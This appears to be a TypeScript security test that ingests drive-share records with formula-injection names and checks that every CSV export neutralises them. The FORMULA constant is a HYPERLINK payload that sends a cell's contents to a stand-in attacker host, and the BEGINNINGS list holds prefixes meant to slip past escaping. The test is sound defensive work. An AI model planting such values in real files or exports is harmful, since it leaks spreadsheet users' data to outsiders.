import { gzipSync } from 'node:zlib';
import { publicShare } from '../../../apps/server/testing/drive-records.ts';
import type { AttackClass, Judge } from '../arena/attack-class.ts';
import { SESSION_ROUTES, shotAt } from '../arena/attacked-routes.ts';
import { anyAnswer } from '../arena/judges.ts';

/** Beginnings that spreadsheets take for a formula, also behind what they skip. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '"=', ';=', ',='];
const FORMULA = 'HYPERLINK("http://attacker.invalid/"&A1;"x")';
/** What a spreadsheet runs: the value of a cell, after the quotes of the format are undone. */
const RUNS = /^[\t\r\n ]*[=+\-@＝＋－＠]/;
const NUMBER = /^[+-]?\d+(?:[.,]\d+)*$/;

export const attackClass: AttackClass = {
  title: 'Formulas in names of files and people, in every export for spreadsheets',
  async run(arena) {
    const { attacker } = arena;
    const records = BEGINNINGS.flatMap((beginning, index) => {
      const text = `${beginning}${FORMULA}`;
      const share = { at: Date.now() - 120_000, folder: text, title: text };
      return [
        publicShare({ ...share, id: 700_000 + index, person: `${beginning}cmd@ours.example` }),
        publicShare({ ...share, id: 710_000 + index, person: 'ana@ours.example' }),
      ];
    });
    const lines = records.map((record) => JSON.stringify(record)).join('\n');
    const headers = { authorization: `Bearer ${attacker.ingestToken}`, 'content-encoding': 'gzip' };
    const path = '/v1/ingest/google-drive';
    const shot = {
      method: 'POST',
      path,
      route: 'POST /v1/ingest/{source}',
      headers,
      raw: gzipSync(lines),
    };
    await arena.shoot('formula in a record', shot, anyAnswer);
    await arena.untilDerived();
    const exports = SESSION_ROUTES.filter(
      ({ definition, method }) =>
        method === 'GET' && definition.stream?.contentType.includes('csv'),
    );
    for (const route of exports) {
      const session = { 'session-token': attacker.owner.sessionToken };
      await arena.shoot(
        'formula in an export',
        { ...shotAt(route, attacker.ids), headers: session },
        isInert,
      );
    }
  },
};

const isInert: Judge = ({ status, text }) => {
  if (status !== 200) return `the export answered ${status}, so nothing was seen`;
  if (!text.includes('HYPERLINK')) return 'the formulas are not in the export, so nothing was seen';
  const running = cellsOf(text).find((cell) => RUNS.test(cell) && !NUMBER.test(cell));
  return running === undefined ? null : `a cell begins with "${running.slice(0, 20)}"`;
};

/** Values of all cells (RFC 4180). */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/(?:^|[,\r\n])(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}
